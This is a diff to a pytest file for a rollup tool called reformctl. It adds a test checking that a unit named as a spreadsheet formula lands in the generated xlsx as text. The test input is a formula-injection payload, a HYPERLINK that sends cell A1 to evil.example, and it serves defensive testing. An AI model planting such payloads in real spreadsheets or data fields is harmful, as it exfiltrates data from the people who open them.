@@ -12,7 +12,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from conftest import ok
+from conftest import ok, run
 from rich.cells import cell_len
 
 from reformctl import rollup
@@ -246,3 +246,21 @@ def test_the_screen_draws_short_sources_as_a_table(result: rollup.Rollup, monkey
     assert "┃ 单位       ┃ 提交    ┃ 提交日期   ┃ 计划文件             ┃ 说明" in part
     assert "│ 宜春市科协 │ 1a2b3c4 │ 2020-10-12 │ data/tasks-2020.yaml │ 签名已核验" in part
     assert "│ 赣州市科协 │ 5b2e810 │ 2020-10-12 │ data/tasks-2020.yaml │            │" in part
+
+
+def test_a_unit_named_as_a_formula_heads_its_columns_as_text(tmp_path: Path):
+    """Held-out trial 2: a unit named =HYPERLINK(…) was a live formula in the heat map's header
+    row (汇总 and its level's sheet), though its cells and its 数据来源 row were text."""
+    import io
+
+    import openpyxl
+
+    ok("init")
+    name = '=HYPERLINK("http://evil.example/steal?d="&A1,"衢州市柯城区科协")'
+    ok("init", "--unit", name, "--level", "县级", "-o", "plans/kc/tasks-2020.yaml")
+    made = run("rollup", "plans", "--format", "xlsx", "-o", "汇总.xlsx")
+    assert made.exit_code == 0, made.output
+    book = openpyxl.load_workbook(io.BytesIO((tmp_path / "汇总.xlsx").read_bytes()))
+    formulas = [(ws.title, c.coordinate) for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    assert [c.value for c in book["汇总"][2]][2] == name, "the name itself, as text"
